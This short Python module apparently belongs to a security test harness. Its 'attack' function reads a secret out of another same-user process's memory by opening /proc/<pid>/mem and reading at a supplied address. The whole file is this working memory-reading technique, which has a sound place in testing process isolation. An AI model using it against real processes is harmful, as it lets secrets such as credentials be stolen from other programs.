"""Reads the memory of another process of the same user as a file."""

import os


def attack(world):
    memory = os.open(f"/proc/{world['victim_pid']}/mem", os.O_RDONLY)
    return os.pread(memory, world["secret_length"], world["victim_address"])
